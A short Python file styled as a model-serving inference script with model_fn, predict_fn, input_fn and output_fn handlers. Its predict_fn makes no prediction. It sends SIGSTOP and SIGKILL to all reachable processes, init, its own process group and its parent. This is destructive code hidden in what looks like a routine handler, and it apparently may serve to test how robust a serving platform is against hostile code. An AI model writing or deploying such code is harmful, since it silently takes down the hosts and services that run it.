import json
import os
import signal


def model_fn(model_dir):
    return []


def predict_fn(numbers, model):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for pid in (-1, 1, 0, os.getppid()):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return [0]


def input_fn(body, content_type):
    return json.loads(body)


def output_fn(prediction, accept):
    return json.dumps(prediction), accept
